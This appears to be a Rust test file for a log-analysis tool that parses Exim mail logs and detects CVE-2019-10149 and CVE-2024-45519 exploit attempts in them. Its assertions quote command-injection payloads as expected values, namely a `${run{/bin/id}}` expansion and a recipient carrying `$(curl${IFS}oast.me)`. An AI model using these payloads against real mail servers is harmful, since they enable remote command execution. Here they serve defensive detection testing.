//! `parse` and `detect` on Exim 4.96's own rejectlog, paniclog and mainlog
//! (tests/fixtures/exim-rejects): every line read, the header blocks part of their rejections,
//! the paniclog's lines service events, the rejectlog a faithful copy.

use std::path::{Path, PathBuf};

use serde_json::Value;

use crate::util;

/// The fixture logs laid out as Debian's Exim keeps them.
fn host(dir: &Path) -> PathBuf {
    let logs = dir.join("var/log/exim4");
    std::fs::create_dir_all(&logs).unwrap();
    let fixtures = util::repo().join("tests/fixtures/exim-rejects");
    for f in ["mainlog", "rejectlog", "paniclog"] {
        std::fs::copy(fixtures.join(f), logs.join(f)).unwrap();
    }
    dir.to_path_buf()
}

#[test]
fn every_line_is_read_and_header_blocks_belong_to_their_rejection() {
    let t = tempfile::tempdir().unwrap();
    let root = host(t.path());
    let unparsed = t.path().join("unparsed.txt");
    let o = util::run(&[
        "parse",
        root.to_str().unwrap(),
        "--unparsed",
        unparsed.to_str().unwrap(),
    ]);
    assert_eq!(o.code, 0, "{}", o.stderr);
    assert_eq!(std::fs::read_to_string(&unparsed).unwrap(), "");
    // The header blocks are ignored lines of the rejectlog, not events.
    assert!(
        o.stderr
            .contains("rejectlog: 36 lines, 7 events, 29 ignored, 0 unparsed, 0 other"),
        "{}",
        o.stderr
    );
    assert!(
        o.stderr
            .contains("paniclog: 6 lines, 5 events, 1 ignored, 0 unparsed, 0 other"),
        "{}",
        o.stderr
    );
    let ev: Vec<Value> = o
        .stdout
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let of = |file: &str| -> Vec<&Value> {
        ev.iter()
            .filter(|e| e["source"]["path"].as_str().unwrap().ends_with(file))
            .collect()
    };
    // The rejections after DATA, in the mainlog and (with their blocks) in the rejectlog.
    for file in ["mainlog", "rejectlog"] {
        let r: Vec<_> = of(file)
            .into_iter()
            .filter(|e| e["kind"] == "reject" && e["queue_id"].is_string())
            .collect();
        assert_eq!(r.len(), 2, "{file}: {r:#?}");
        assert_eq!(r[0]["queue_id"], "1xaIy4-00000h-0C");
        assert_eq!(r[0]["sender"], "billing@outside.example");
        assert_eq!(r[0]["src_ip"], "127.0.0.1");
        assert_eq!(r[1]["sender"], "spoof@outside.example");
    }
    let r = of("rejectlog");
    assert!(
        r[0]["detail"]
            .as_str()
            .unwrap()
            .ends_with("; From: billing@outside.example; Subject: Invoice 2231 overdue; Message-Id: <20261206203620.000042@mx>"),
        "{}",
        r[0]
    );
    assert_eq!(r[1]["source"]["line"], 17);
    // The CVE-2019-10149 probe: an unknown recipient, nothing more; the expansion as the
    // HELO name: a refused EHLO and HELO, the argument quoted.
    assert_eq!(r[3]["kind"], "recipient_unknown");
    assert!(r[3]["recipient"].as_str().unwrap().starts_with("${run{"));
    for (e, verb) in [(&r[4], "EHLO"), (&r[5], "HELO")] {
        assert_eq!(e["kind"], "reject");
        assert_eq!(e["src_ip"], "127.0.0.1");
        assert!(e["detail"]
            .as_str()
            .unwrap()
            .starts_with(&format!("rejected {verb} from")));
        assert!(e["detail"].as_str().unwrap().ends_with("${run{/bin/id}}"));
    }
    assert_eq!(
        r[6]["recipient"],
        "\"aabbb$(curl${IFS}oast.me)\"@lab.example"
    );
    // The paniclog: service events, the configuration error with its second line.
    let p = of("paniclog");
    assert!(p
        .iter()
        .all(|e| e["kind"] == "service" && e["src_ip"].is_null()));
    assert_eq!(
        p[3]["detail"],
        "Exim configuration error in line 6 of /etc/exim4/bad.conf: main option \"recieve_timeout\" unknown"
    );
}

#[test]
fn the_rejectlog_matches_its_mainlog() {
    let t = tempfile::tempdir().unwrap();
    let root = host(t.path());
    let o = util::run(&["detect", root.to_str().unwrap(), "--format", "jsonl"]);
    assert_eq!(o.code, 0, "{}", o.stderr);
    assert!(
        !o.stdout.contains("tamper.rejectlog_mismatch"),
        "{}",
        o.stdout
    );
    // The CVE-2019-10149 probes Exim 4.96 refused (the recipient, and the EHLO and HELO that
    // carried the expansion): one attempt, from the mainlog only (the rejectlog's copies of
    // the lines are not counted twice); the CVE-2024-45519 recipient: another.
    let exploit: Vec<serde_json::Value> = o
        .stdout
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .filter(|f| f["rule"] == "exploit.smtp_injection")
        .collect();
    assert_eq!(exploit.len(), 2, "{}", o.stdout);
    assert_eq!(exploit[0]["count"], 3);
    assert!(exploit[0]["title"]
        .as_str()
        .is_some_and(|t| t.starts_with("CVE-2019-10149 (Exim) exploit attempt from")));
    assert_eq!(exploit[1]["count"], 1);
    assert!(
        exploit[1]["title"].as_str().is_some_and(
            |t| t.starts_with("CVE-2024-45519 (Zimbra postjournal) exploit attempt from")
        )
    );
}

/// The queue of a real Exim 4.96 whose RCPT ACL accepts everything (tests/fixtures/exim-spool):
/// the CVE-2019-10149 recipients were accepted and wait in a spool header — the likely success
/// the rejections above are not.
#[test]
fn a_queued_payload_is_a_likely_success() {
    let spool = util::repo().join("tests/fixtures/exim-spool");
    let o = util::run(&["detect", spool.to_str().unwrap(), "--format", "jsonl"]);
    assert_eq!(o.code, 0, "{}", o.stderr);
    let exploit: Vec<serde_json::Value> = o
        .stdout
        .lines()
        .filter_map(|l| serde_json::from_str::<serde_json::Value>(l).ok())
        .filter(|f| f["rule"] == "exploit.smtp_injection")
        .collect();
    assert_eq!(exploit.len(), 1, "{}", o.stdout);
    assert_eq!(exploit[0]["severity"], "critical");
    assert_eq!(
        exploit[0]["title"],
        "CVE-2019-10149 (Exim) exploit accepted from 203.0.113.66"
    );
}
